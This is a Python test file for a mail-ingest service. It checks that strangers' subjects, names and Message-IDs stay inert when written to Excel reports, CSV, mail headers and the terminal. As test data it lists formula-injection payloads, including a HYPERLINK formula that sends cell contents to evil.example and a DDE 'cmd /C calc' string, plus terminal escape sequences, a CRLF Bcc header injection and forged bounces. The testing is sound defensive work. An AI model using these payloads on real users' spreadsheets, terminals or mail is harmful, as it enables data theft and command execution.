"""Nothing a stranger wrote acts or blocks when the service writes it out (issue 11).

Workbooks, CSV, mail headers, file names and terminals receive strangers' subjects,
names and Message-IDs. Each hostile string here is tried in many shapes (with control
characters, bidi overrides, formula starts, rich markup, 100 KB lengths) against the
real sinks: openpyxl and LibreOffice reading the report, aiosmtpd receiving the mail,
the CLI printing through click and rich.
"""

from __future__ import annotations

import csv
import email
import io
import itertools
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from email import policy
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from rich.console import Console
from test_delivery import SENDER, Inbox, smtp  # noqa: F401  (smtp: the aiosmtpd fixture)

from mail_ingest import config as config_module
from mail_ingest import decisions, delivery, demo, standing
from mail_ingest.app import open_store, poll_config
from mail_ingest.cli import cli
from mail_ingest.config import Config, SmtpConfig
from mail_ingest.delivery import MAX_ATTEMPTS, Outgoing
from mail_ingest.store import MessageRecord, Store, StoredAttachment
from mail_ingest.transports import FileTransport, SmtpTransport
from parsers.model import Entry, ParsedFile, Problem
from parsers.text import printable
from rules.matching import Guess

from conftest import Deployment

NOW = demo.NOW  # 05/02/2024 08:00 in the district
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm để xem")',
    '=WEBSERVICE("http://evil.example/x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
DIRT = ["", "\x07", "\x1b[31m", "\x1b]0;pwned\x07", "\x9b2J", "\u202e", "\x00", "\x0c"]
TERMINAL = [
    "\x1b]0;pwned\x07",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\x1b]8;;http://evil.example\x1b\\bấm\x1b]8;;\x1b\\",
    "\x07\x08\x7f",
]
MARKUP = "[link=http://evil.example]bấm[/link][bold red]ĐỎ[/]"


def hostile() -> Iterator[str]:
    """Every formula start combined with control characters before, inside and after."""
    for formula, dirt in itertools.product(FORMULAS, DIRT):
        yield formula + dirt
        yield dirt + formula
        yield formula[:2] + dirt + formula[2:]


@pytest.fixture
def campaign(tmp_path: Path) -> Config:
    outcome = demo.run(tmp_path / "demo", Console(file=io.StringIO()))
    return config_module.load(outcome.config)


def held(
    store: Store,
    n: int,
    subject: str,
    sender: str,
    guesses: tuple[Guess, ...] = (),
    received: datetime = NOW - timedelta(hours=1),
) -> None:
    record = MessageRecord(
        sha256=f"held-{n}", size=100, message_id=f"<held-{n}@stranger.example>", sender=sender,
        subject=subject, received_at=received, unit_id=None,
        outcome="needs-review", guesses=guesses,
    )  # fmt: skip
    store.record(record, "test", 1, f"h{n}")


def submission(
    store: Store, n: int, names: list[str], problem: str = "", unit: str = "xa-muong-so"
) -> None:
    parsed = ParsedFile(
        filename="mau-01.docx", form="mau-01",
        entries=tuple(Entry(name, "tap-the", "kinh-te", "xa", {"model": name}) for name in names),
        problems=(Problem("test", problem),) if problem else (),
    )  # fmt: skip
    record = MessageRecord(
        sha256=f"sub-{n}", size=100, message_id=f"<sub-{n}@example.vn>", sender="x@example.vn",
        subject="Gửi biểu", received_at=NOW - timedelta(hours=2), unit_id=unit,
        outcome="submission", attachments=(StoredAttachment("mau-01.docx", "", 1, "0", parsed),),
    )  # fmt: skip
    store.record(record, "test", 1, f"s{n}")


def report_workbook(config: Config, store: Store) -> bytes:
    [mail] = decisions.due(config, store, NOW, ("report",), force=True)
    return mail.attachments[0].data


# -- workbooks: no formula, no control character, nothing that stops the report ----------


def test_the_report_workbook_holds_strangers_formulas_as_text(campaign: Config) -> None:
    strings = list(hostile())
    with open_store(campaign) as store:
        for n, text in enumerate(strings):
            held(store, n, subject=text, sender=f"{text} <x{n}@stranger.example>")
        submission(store, 0, strings[:200])
        data = report_workbook(campaign, store)
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells if isinstance(c.value, str)}
    assert {printable(s, newlines=True) for s in strings} <= values
    assert all(printable(v, newlines=True) == v for v in values)  # no BEL, ESC, bidi
    quoted = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert quoted and all(c.quotePrefix for c in quoted)  # text even when edited in Excel


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed")
def test_libreoffice_shows_the_literal_text_not_a_computed_value(
    campaign: Config, tmp_path: Path
) -> None:
    with open_store(campaign) as store:
        submission(store, 0, ["=1234+1", "=SUM(40000,2)", '=WEBSERVICE("http://evil.example/")'])
        held(store, 0, subject="=2*21000", sender="+40+2 <x@stranger.example>")
        data = report_workbook(campaign, store)
    (tmp_path / "report.xlsx").write_bytes(data)
    profile = tmp_path / "profile"
    subprocess.run(
        [
            "soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
            "--outdir", str(tmp_path / "csv"), str(tmp_path / "report.xlsx"),
        ],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    text = "\n".join(p.read_text("utf-8") for p in (tmp_path / "csv").glob("*.csv"))
    sheets = sorted((tmp_path / "csv").glob("*.csv"))
    assert len(sheets) == 3  # every sheet exported
    cells = {cell for p in sheets for row in csv.reader(p.open(encoding="utf-8")) for cell in row}
    assert {"=1234+1", "=SUM(40000,2)", '=WEBSERVICE("http://evil.example/")', "=2*21000"} <= cells
    assert "+40+2 <x@stranger.example>" in cells
    assert not {"1235", "40002", "42000", "42"} & cells and "#NAME?" not in text


def test_a_bel_in_a_held_subject_does_not_stop_any_mail(campaign: Config) -> None:
    with open_store(campaign) as store:
        now = datetime(2024, 1, 26, 17, 30, tzinfo=campaign.timezone)
        bel = "Gửi\x07 biểu\x1b[0m"
        held(store, 0, bel, "\x07 <x@stranger.example>", received=now - timedelta(hours=8))
        sent = decisions.send(campaign, store, now, decisions.due(campaign, store, now))
        keys = {i.key.split(":")[0] for i in store.outbox() if i.status == "sent"}
    assert sent.failed == 0 and {"ack", "remind", "report"} <= keys


def test_held_messages_show_their_likely_units(campaign: Config) -> None:
    guesses = (Guess("xa-muong-so", 62.4, "subject"), Guess("xa-dao-san", 40, "body"))
    with open_store(campaign) as store:
        held(store, 0, subject="bao cao DVK", sender="lo.pao@gmail.com", guesses=guesses)
        data = report_workbook(campaign, store)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Thư chờ xem xét"]
    [row] = [r for r in sheet.iter_rows(min_row=2, values_only=True) if r[3] == "bao cao DVK"]
    assert row[4] == "Đảng ủy xã Mường So (62%); Đảng ủy xã Dào San (40%)"


# -- mail: one mail that cannot be composed is failed, the others go ------------------------

UNCOMPOSABLE = [
    "not an address",
    "",
    "<>",
    '"unterminated <a@example.vn>',
    "=?utf-8?q?a=40b.vn?= <@>",
    "x@\udcff.vn",
]


@pytest.mark.parametrize("to", UNCOMPOSABLE)
def test_an_uncomposable_mail_is_recorded_failed_and_the_others_go(
    campaign: Config, to: str
) -> None:
    good = Outgoing(key="ack:<good@example.vn>", to=("muongso@example.vn",), subject="Đã nhận",
                    text="Kính gửi", auto="auto-replied")  # fmt: skip
    bad = replace(good, key="ack:<bad@example.vn>", to=(to,))
    with open_store(campaign) as store:
        sent = decisions.send(campaign, store, NOW, [bad, good])
        items = {i.key: i for i in store.outbox()}
    assert items["ack:<good@example.vn>"].status == "sent" and sent.failed == 0
    bad_item = items["ack:<bad@example.vn>"]
    if bad_item.status == "failed":  # recorded with its reason, for the board
        assert "cannot compose" in (bad_item.last_error or "")
    else:  # or composed to the one address the text holds, nothing else
        to = email.message_from_bytes(bad_item.raw, policy=policy.default)["To"]
        assert [a.addr_spec for a in to.addresses] == list(bad_item.recipients)
        assert bad_item.status == "sent" and len(bad_item.recipients) == 1


def test_headers_carry_no_strangers_line_breaks_or_controls() -> None:
    for dirt in [*DIRT, *TERMINAL, "\ud800", "\r\nBcc: victim@example.org", "\n\nbody"]:
        name = f"Đơn vị {dirt} x"
        out = Outgoing(
            key="k", to=(f'"{name}" <muongso@example.vn>',), subject=f"Về: {dirt} thư",
            text=f"Tiêu đề: {dirt}",
            attachments=(delivery.Attachment(f"a{dirt}.xlsx", "a/b", b""),),
        )  # fmt: skip
        raw = bytes(delivery.compose(out, SENDER, NOW))
        parsed = email.message_from_bytes(raw, policy=policy.default)
        assert parsed["Bcc"] is None
        assert [a.addr_spec for a in parsed["To"].addresses] == ["muongso@example.vn"]
        for value in (
            parsed["Subject"],
            parsed["To"],
            *(p.get_filename() for p in parsed.iter_attachments()),
        ):
            assert printable(str(value)) == str(value)


def test_an_item_at_max_attempts_is_failed_not_pending(tmp_path: Path) -> None:
    with Store(tmp_path / "s.sqlite3") as store:
        out = Outgoing(key="ack:<m@example.vn>", to=("a@example.vn",), subject="s", text="t")
        delivery.enqueue(store, out, SENDER, NOW)
        [item] = store.outbox()
        for _ in range(MAX_ATTEMPTS):  # left so by an older version, retrying forever
            store.outbox_mark(item.id, "pending", attempt=True)
        report = delivery.deliver(store, FileTransport(tmp_path / "out"), SENDER, NOW)
        assert (report.sent, report.failed, store.outbox()[0].status) == (0, 1, "failed")


def test_a_100_kb_message_id_is_sent_once_with_bounded_names(campaign: Config) -> None:
    huge = f"<{'a' * 100_000}@stranger.example>"
    mail = Outgoing(key=f"ack:{huge}", to=("muongso@example.vn",), subject="Đã nhận",
                    text="Kính gửi", auto="auto-replied", in_reply_to=huge)  # fmt: skip
    with open_store(campaign) as store:
        assert decisions.send(campaign, store, NOW, [mail]).sent == 1
        assert decisions.send(campaign, store, NOW, [mail]).sent == 0  # its key is still its key
        assert store.outbox_has(mail.key)
        [item] = [i for i in store.outbox() if i.key.startswith("ack:<aaa")]
    assert len(item.key) <= 200
    assert campaign.smtp is not None and campaign.smtp.path is not None
    [written] = [p for p in campaign.smtp.path.iterdir() if p.name.startswith("ack_")]
    assert len(written.name) <= 255
    parsed = email.message_from_bytes(written.read_bytes(), policy=policy.default)
    assert parsed["In-Reply-To"] is None and parsed["References"] is None


def test_the_daily_cap_lets_exactly_cap_mails_through(campaign: Config) -> None:
    capped = replace(campaign, notify=replace(campaign.notify, daily_cap=3))
    mails = [
        Outgoing(key=f"ack:<m{i}@example.vn>", to=("Mường So <muongso@example.vn>",),
                 subject="Đã nhận", text="Kính gửi", auto="auto-replied")
        for i in range(4)
    ]  # fmt: skip
    with open_store(capped) as store:
        assert decisions.send(capped, store, NOW, mails).sent == 3
        assert not store.outbox_has("ack:<m3@example.vn>")


# -- delivery reports: only one about a mail we sent marks an address --------------------


def postfix_dsn(failed: str, returned: str, kind: str = "message/rfc822", extra: str = "") -> bytes:
    """A bounce shaped like Postfix's (bounce(8)): notification, report, returned message."""
    return f"""\
Return-Path: <>
From: MAILER-DAEMON@mx.example.vn (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: bandanvan@phongtho.example.vn
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
 boundary="9B0A51C0A.1706234460/mx.example.vn"
Message-Id: <20240126020100.9B0A51C0A@mx.example.vn>
Date: Fri, 26 Jan 2024 09:01:00 +0700 (ICT)
{extra}
This is a MIME-encapsulated message.

--9B0A51C0A.1706234460/mx.example.vn
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<{failed}>: host mx.example.vn said: 550 5.1.1 User unknown

--9B0A51C0A.1706234460/mx.example.vn
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.example.vn
X-Postfix-Queue-ID: 9B0A51C0A
X-Postfix-Sender: rfc822; bandanvan@phongtho.example.vn
Arrival-Date: Fri, 26 Jan 2024 09:00:59 +0700 (ICT)

Final-Recipient: rfc822; {failed}
Original-Recipient: rfc822;{failed}
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 User unknown

--9B0A51C0A.1706234460/mx.example.vn
Content-Description: Undelivered Message
Content-Type: {kind}

{returned}
--9B0A51C0A.1706234460/mx.example.vn--
""".replace("\n", "\r\n").encode()


def returned(message_id: str) -> str:
    return "From: bandanvan@phongtho.example.vn\nTo: muongso@example.vn\nSubject: x\n" + (
        f"Message-ID: {message_id}\n\nbody\n" if message_id else "\nbody\n"
    )


@pytest.fixture
def sent_ack(
    tmp_path: Path,
    smtp: tuple[Inbox, SmtpConfig],  # noqa: F811
) -> tuple[Deployment, Config, str]:
    """A deployment that has sent one acknowledgement through aiosmtpd: its Message-ID."""
    inbox, smtp_config = smtp
    deployment = Deployment(tmp_path)
    config = config_module.load(deployment.config)
    with open_store(config) as store:
        out = Outgoing(key="ack:<m1@example.vn>", to=("Mường So <muongso@example.vn>",),
                       subject="Đã nhận", text="Kính gửi", auto="auto-replied")  # fmt: skip
        delivery.enqueue(store, out, SENDER, NOW)
        assert delivery.deliver(store, SmtpTransport(smtp_config), SENDER, NOW).sent == 1
    [message] = inbox.messages()
    return deployment, config, str(message["Message-ID"])


def failing_after(deployment: Deployment, config: Config, dsn: bytes) -> list[str]:
    deployment.deliver(dsn, datetime(2024, 1, 26, 9, 1, tzinfo=UTC))
    result = poll_config(config)
    assert result.outcomes["bounce"] == 1
    with open_store(config) as store:
        return list(store.failing_addresses())


@pytest.mark.parametrize("kind", ["message/rfc822", "text/rfc822-headers"])
def test_a_bounce_of_our_mail_marks_its_recipient(
    sent_ack: tuple[Deployment, Config, str], kind: str
) -> None:
    deployment, config, message_id = sent_ack
    dsn = postfix_dsn("muongso@example.vn", returned(message_id), kind)
    assert failing_after(deployment, config, dsn) == ["muongso@example.vn"]


def test_a_bounce_naming_our_mail_in_in_reply_to_marks_its_recipient(
    sent_ack: tuple[Deployment, Config, str],
) -> None:
    deployment, config, message_id = sent_ack
    dsn = postfix_dsn("muongso@example.vn", returned(""), extra=f"In-Reply-To: {message_id}")
    assert failing_after(deployment, config, dsn) == ["muongso@example.vn"]


@pytest.mark.parametrize(
    "make",
    [
        lambda mid: postfix_dsn("muongso@example.vn", returned("<forged@stranger.example>")),
        lambda mid: postfix_dsn("muongso@example.vn", returned("")),
        lambda mid: postfix_dsn("muongso@example.vn", returned(mid.upper().replace("@", "x@"))),
        lambda mid: postfix_dsn("vanphong@example.vn", returned(mid)),  # not its recipient
        lambda mid: postfix_dsn("muongso@example.vn", "", extra=f"X-Ref: {mid}"),
    ],
    ids=["other-id", "no-id", "altered-id", "not-a-recipient", "id-elsewhere"],
)
def test_a_forged_bounce_marks_nobody(
    sent_ack: tuple[Deployment, Config, str], make: object
) -> None:
    deployment, config, message_id = sent_ack
    assert callable(make)
    assert failing_after(deployment, config, make(message_id)) == []


# -- the terminal: no escape sequence, no rich markup from data ---------------------------


def test_cli_prints_strangers_text_inert(campaign: Config, tmp_path: Path) -> None:
    dirty = "".join(TERMINAL) + MARKUP
    with open_store(campaign) as store:
        held(store, 0, subject=f"Gửi {dirty}", sender=f"{dirty} <x@stranger.example>",
             guesses=(Guess("xa-muong-so", 50, "subject"),))  # fmt: skip
        submission(store, 0, [f"Mô hình {dirty}"], f"=HYPERLINK(1) {dirty}", unit="cq-ttyt")
        out = Outgoing(key=f"ack:<{dirty}@x>", to=("a@example.vn",), subject="s", text="t")
        delivery.enqueue(store, out, SENDER, NOW)
        store.learn_address("learned@example.vn", "xa-muong-so", f"by {dirty}", None)
    runner = CliRunner()
    config = str(campaign.path)
    when = ["--now", "2024-02-05T09:00"]
    commands = [["messages"], ["review"], ["outbox"], ["audit"], ["status", *when],
                ["status", "--format", "csv", *when]]  # fmt: skip
    for args in commands:
        result = runner.invoke(cli, ["--config", config, *args], color=True)
        assert result.exit_code == 0, (args, result.output)
        assert printable(result.output, newlines=True) == result.output, args
    wide = {"COLUMNS": "1000"}
    table = runner.invoke(cli, ["--config", config, "status", *when], env=wide)
    assert MARKUP in table.output  # shown as written, not made a link or a colour
    csv_out = runner.invoke(cli, ["--config", config, "status", "--format", "csv", *when]).output
    cells = [c for row in csv.reader(io.StringIO(csv_out)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any("=HYPERLINK(1)" in c for c in cells)


def test_status_csv_cells_never_start_a_formula(campaign: Config) -> None:
    with open_store(campaign) as store:
        statuses = standing.compute(campaign, store, NOW)
    starts = [replace(s, problems=(text,)) for s, text in zip(statuses, itertools.cycle(hostile()))]
    cells = [c for row in csv.reader(io.StringIO(standing.as_csv(starts))) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=cmd|' /C calc'!A0" in cells or "'=1+1" in cells
